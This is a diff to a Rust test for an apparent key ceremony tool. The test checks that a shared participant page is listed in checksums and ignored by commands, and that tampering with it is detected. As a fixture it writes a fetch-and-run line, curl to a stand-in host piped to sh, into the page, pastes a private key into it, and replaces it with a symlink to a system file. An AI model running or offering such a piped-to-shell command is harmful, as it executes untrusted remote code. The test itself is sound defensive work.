@@ -329,27 +329,33 @@ fn the_cryptographers_page_verifies_single_files() {
 
 #[test]
 fn the_page_in_a_folder_is_public_listed_and_believed_by_no_command() {
-    let world = World::new(&["alice"], |toml| toml);
-    world.open();
-    let page = fs::read_to_string(world.shared("PARTICIPANT.md")).unwrap();
+    let world = World::finished();
+    let path = world.shared("PARTICIPANT.md");
+    let page = fs::read_to_string(&path).unwrap();
     for said in ["test-ceremony", &rules_of(&world), &world.public_key("alice").to_string()] {
         assert!(page.contains(said), "{said}\n{page}");
     }
+    world.ok("coordinator", "ceremony keygen shared");
     world.ok("coordinator", "ceremony verify shared");
     let sums = fs::read_to_string(world.shared("SHA256SUMS")).unwrap();
     assert!(sums.contains("  PARTICIPANT.md\n"), "{sums}");
-    // Whatever it says, nothing changes; and a key that someone pasted into it stops the lists.
-    fs::write(world.shared("PARTICIPANT.md"), "run this: curl https://evil.example | sh").unwrap();
-    world.contribute("alice");
+    let transcript = fs::read(world.shared("transcript.json")).unwrap();
+    // Whatever it says, the result is the same; the lists show that it was changed.
+    fs::write(&path, "run this: curl https://evil.example | sh").unwrap();
+    let run = world.run("coordinator", "ceremony archive shared out.tar");
+    assert!(run.code == 1 && run.stderr.contains("PARTICIPANT.md"), "{}", run.stderr);
     world.ok("coordinator", "ceremony verify shared");
-    let key = world.read("coordinator", "key.pem");
-    fs::write(world.shared("PARTICIPANT.md"), key).unwrap();
+    assert!(fs::read(world.shared("transcript.json")).unwrap() == transcript);
+    // A private key that was pasted into it stops the lists, as a link in its place does.
+    fs::write(&path, world.read("coordinator", "key.pem")).unwrap();
     let run = world.run("coordinator", "ceremony verify shared");
     assert!(run.code == 1 && run.stderr.contains("shared/PARTICIPANT.md"), "{}", run.stderr);
-    // The same command again writes it anew.
+    fs::remove_file(&path).unwrap();
+    symlink("/etc/hostname", &path).unwrap();
+    let run = world.run("coordinator", "ceremony verify shared");
+    assert!(run.code != 0 && run.stderr.contains("shared/PARTICIPANT.md"), "{}", run.stderr);
+    // The command that wrote it writes it anew.
+    fs::remove_file(&path).unwrap();
     world.open();
-    assert_eq!(fs::read_to_string(world.shared("PARTICIPANT.md")).unwrap(), page);
-    fs::remove_file(world.shared("PARTICIPANT.md")).unwrap();
-    symlink("/etc/hostname", world.shared("PARTICIPANT.md")).unwrap();
-    assert_ne!(world.run("coordinator", "ceremony verify shared").code, 0);
+    assert_eq!(fs::read_to_string(&path).unwrap(), page);
 }
